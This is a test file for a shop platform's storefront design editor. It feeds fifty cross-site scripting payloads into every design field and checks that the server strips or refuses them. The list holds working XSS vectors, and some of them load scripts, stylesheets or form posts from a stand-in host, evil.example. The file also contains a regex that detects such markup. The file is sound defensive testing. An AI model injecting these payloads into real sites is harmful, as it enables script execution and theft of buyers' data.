/** No script ever comes from a design: fifty payloads, each in every place of it, through the assembled app, out of what buyers are given. */
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { merchantLinkLook } from '@keymall/contract/catalogue/link-look';
import { shopIndex } from '@keymall/contract/catalogue/shop-page';
import { refusals } from '@keymall/contract/kit/refusals';
import { merchantDesign } from '@keymall/contract/merchant/design';
import { type Design, starterDesign } from '@keymall/contract/merchant/design-look-words';
import { merchantShopLink } from '@keymall/contract/merchant/shop';
import { startTestApp, type TestApp } from '#testing/app';
import { makeAdmin, makeGoods, makeShop, type Shop } from '#testing/builders';
import { call, did, freshIp } from '#testing/call';
import { changeSettings } from '#testing/settings';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<img/src/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="//evil.example" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>*{background:url("https://evil.example/?leak")}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=card><button>ok</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '"><script>alert(1)</script>',
  "';alert(1)//",
] as const;

/** What the look below does not see as markup. */
const UNSEEN: readonly string[] = ["';alert(1)//"];

const TAGS =
  'script|style|svg|math|iframe|object|embed|link|meta|base|form|input|button|video|audio|source|details|marquee|body|template|noscript|xmp';
const RUNS = new RegExp(
  `<\\s*/?\\s*(${TAGS})\\b|<[^>]*[\\s/"'\`]on\\w+\\s*=|<[^>]*\\b(href|src|action|formaction)\\s*=\\s*["'\`]?\\s*(javascript|data|vbscript):|<[^>]*\\sstyle\\s*=`,
  'i',
);
/** Whether a browser that is given this as markup would run or style something: it reads through entities and through space within a scheme. */
const wouldRun = (html: string): boolean =>
  [html, html.replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code))).replaceAll(/[\t\n]/g, '')].some((each) =>
    RUNS.test(each),
  );

let app: TestApp;
let shop: Shop;
let token: string;
let id: number;
let revision: number;
before(async () => {
  app = await startTestApp();
  await changeSettings(app, await makeAdmin(app), 'diy', { diy_html: 1 });
  shop = await makeShop(app);
  await makeGoods(app, shop);
  ({ token } = await did(app, merchantShopLink.index, {}, shop));
  ({ id } = await did(app, merchantDesign.add, { name: '首页', device: 'pc', template_id: 0 }, shop));
  ({ revision } = await did(app, merchantDesign.detail, { id }, shop));
});

const rich = (html: string): Design['blocks'] => [
  { id: 'text', type: 'text', visible: true, props: { html: `<p>好</p>${html}`, align: 'left' } },
  { id: 'html', type: 'html', visible: true, props: { html: `<p>好</p>${html}` } },
];

test('there are fifty of them, each would run, and the look for them finds each', () => {
  assert.equal(PAYLOADS.length, 50);
  assert.equal(new Set(PAYLOADS).size, 50);
  // the last of them is no markup: it breaks out of a script, where a text stands in one
  const unseen = PAYLOADS.filter((payload) => !wouldRun(payload));
  assert.deepEqual(unseen, [...UNSEEN]);
});

test('as rich text and as own HTML each is taken out, on its way in and in what buyers get', async () => {
  for (const payload of PAYLOADS) {
    app.clock.pass(1_000);
    const design = { ...starterDesign, blocks: [...starterDesign.blocks, ...rich(payload)] };
    ({ revision } = await did(app, merchantDesign.save, { id, revision, design }, shop));
    await did(app, merchantDesign.publish, { id, revision }, shop);
    await did(app, merchantLinkLook.wear, { at: 'shop', target_id: 0, device: 'pc', theme: 'diy', design_id: id }, shop);
    const { designs } = await did(app, shopIndex.detail, { token }, { ip: freshIp() });
    const shown = designs?.pc?.blocks.flatMap((block) => (block.type === 'text' || block.type === 'html' ? [block.props.html] : [])) ?? [];
    assert.equal(shown.length, 2, payload);
    for (const html of shown) {
      assert.match(html, /<p>好<\/p>/, payload);
      assert.ok(!wouldRun(html), `${payload}: ${html}`);
    }
  }
});

test('what lay in the database before somebody cleaned it is cleaned on its way out', async () => {
  for (const payload of PAYLOADS) {
    app.clock.pass(1_000);
    const design: Design = { ...starterDesign, blocks: [...starterDesign.blocks, ...rich(payload)] };
    await app.house.db
      .updateTable('shop_design')
      .set({ live: JSON.stringify(design) })
      .where('id', '=', id)
      .execute();
    app.house.invalidate(`shop:${shop.id}`);
    const { designs } = await did(app, shopIndex.detail, { token }, { ip: freshIp() });
    for (const block of designs?.pc?.blocks ?? [])
      if (block.type === 'text' || block.type === 'html') assert.ok(!wouldRun(block.props.html), payload);
  }
});

test('where an address, a colour, a choice or a number belongs none of them gets in; nor does a block of its own kind', async () => {
  const kept = revision;
  const one = (block: object) => ({ ...starterDesign, blocks: [block] });
  const block = (type: string, props: object) => one({ id: 'b', type, visible: true, props });
  for (const payload of [
    ...PAYLOADS,
    'javascript:alert(1)',
    'data:text/html,x',
    '//evil.example/x.mp4',
    'https://evil.example/"onerror="x.mp4',
  ]) {
    app.clock.pass(5_000);
    const places: object[] = [
      { ...starterDesign, page: { ...starterDesign.page, bg: payload } },
      { ...starterDesign, page: { ...starterDesign.page, accent: payload } },
      { ...starterDesign, page: { ...starterDesign.page, width: payload } },
      { ...starterDesign, page: { ...starterDesign.page, css: payload } },
      block('image', { image: payload, href: '', alt: '', size: 'full' }),
      block('image', { image: '', href: payload, alt: '', size: 'full' }),
      block('banner', { slides: [{ image: payload, href: '', alt: '' }], ratio: 'wide' }),
      block('video', { src: payload, poster: '', title: '' }),
      block('music', { src: payload, title: '' }),
      block('countdown', { title: '', until: payload, ended: '' }),
      block('divider', { style: payload }),
      block('goods_list', { title: '', style: 'grid', cate_id: payload, most: 0, columns: 3 }),
      block('header', { align: 'left', logo: true, subtitle: '', onload: payload }),
      one({ id: payload, type: 'category', visible: true, props: { style: 'bar' } }),
      block(payload, {}),
    ];
    for (const design of places) {
      const { code } = await call(app, merchantDesign.save, { id, revision: kept, design: design as Design }, shop);
      assert.equal(code, refusals.bad_input.code, `${payload} in ${JSON.stringify(design).slice(0, 200)}`);
    }
  }
  assert.equal((await did(app, merchantDesign.detail, { id }, shop)).revision, kept, 'nothing of it was kept');
});
